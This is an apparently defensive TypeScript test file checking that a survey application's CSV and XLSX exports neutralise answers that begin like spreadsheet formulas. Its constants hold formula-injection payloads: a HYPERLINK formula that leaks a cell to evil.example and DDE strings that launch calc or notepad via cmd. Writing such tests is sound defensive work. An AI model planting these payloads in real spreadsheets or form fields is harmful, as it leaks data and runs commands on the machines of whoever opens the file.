// Finding 3 of issue 10: answers that start like a spreadsheet formula (`=HYPERLINK(…)`, `+…`, `-…`,
// `@…`, a tab or a carriage return) must reach the coordinators' CSV as text, neutralised as OWASP
// advises (a leading single quote, the cell quoted), and the XLSX must hold them as strings: no cell
// of the workbook is a formula.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../api/src/services/export.ts';
import { COORDINATOR, respondentWith } from '../helpers/console.ts';
import { measure, section1 } from '../helpers/fixtures2021.ts';
import { createTestWeb, type TestWeb } from '../helpers/web.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")';
const PLUS = "+1+cmd|' /C calc'!A0";
const MINUS = '-2+3+cmd|" /C notepad"!A0';
const AT = '@SUM(1+1)*cmd|" /C calc"!A0';
const EMAIL = '=1+1@example.org';

let t: TestWeb;
let coordinator: string;

beforeAll(async () => {
  t = await createTestWeb();
  coordinator = await t.signInCoordinator(COORDINATOR);
  await t.openWindow('nok-2021');
  // Saved through the real save service: the engine accepts these as ordinary text.
  await respondentWith(t, EMAIL, 'nok-2021', [
    ['authority', { ...section1, respondent_name: HYPERLINK, respondent_position: PLUS, authority_name: AT }],
    ['measures', { measures: [1, 2, 3, 4, 5].map((n) => ({ ...measure(n), title: n === 1 ? MINUS : measure(n).title })) }],
  ]);
});
afterAll(() => t?.close());

/** Splits one CSV line at the separators outside quotes and unquotes each cell. */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i]!;
    if (quoted) {
      if (char === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') {
      out.push(cell);
      cell = '';
    } else cell += char;
  }
  out.push(cell);
  return out;
}

describe('CSV export', () => {
  it('neutralises every text cell that starts like a formula: quoted, with a leading single quote', async () => {
    const response = await t.request('/admin/export/nok-2021.csv', { headers: { cookie: coordinator } });
    expect(response.status).toBe(200);
    const text = new TextDecoder().decode(new Uint8Array(await response.arrayBuffer()).slice(3));
    const lines = text.trimEnd().split('\r\n');
    expect(lines).toHaveLength(2);
    const raw = lines[1]!;
    // Raw: each dangerous value appears only as a quoted cell that starts with «'».
    for (const value of [HYPERLINK, PLUS, AT, EMAIL]) {
      expect(raw).toContain(`"'${value.replace(/"/g, '""')}"`);
    }
    // Parsed as a spreadsheet would: no cell begins with a formula character.
    const row = cells(raw);
    expect(row[0]).toBe(`'${EMAIL}`);
    expect(row).toContain(`'${HYPERLINK}`);
    expect(row).toContain(`'${PLUS}`);
    expect(row).toContain(`'${AT}`);
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('treats tab and carriage return like the formula characters, and keeps numbers and plain text as they were', () => {
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('-')).toBe(`"'-"`);
    expect(csvField('@')).toBe(`"'@"`);
    expect(csvField('+7 (999) 000-00-00')).toBe(`"'+7 (999) 000-00-00"`);
    expect(csvField('="x";=1')).toBe(`"'=""x"";=1"`);
    // Numbers are numbers: Excel reads «-5» and «12,5» as numbers, not formulas.
    expect(csvField(-5)).toBe('-5');
    expect(csvField(12.5)).toBe('12,5');
    expect(csvField('Министерство; отдел')).toBe('"Министерство; отдел"');
    expect(csvField('Иванова А. П. = руководитель')).toBe('Иванова А. П. = руководитель');
  });
});

describe('XLSX export', () => {
  it('writes the same answers as strings: no cell of any sheet is a formula', async () => {
    const response = await t.request('/admin/export/nok-2021.xlsx', { headers: { cookie: coordinator } });
    expect(response.status).toBe(200);
    const bytes = await response.arrayBuffer();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes);
    const seen = new Set<string>();
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string') seen.add(cell.value);
        });
      });
    }
    // The values arrive whole, as text.
    for (const value of [HYPERLINK, PLUS, AT, EMAIL, MINUS]) expect(seen).toContain(value);
  });
});
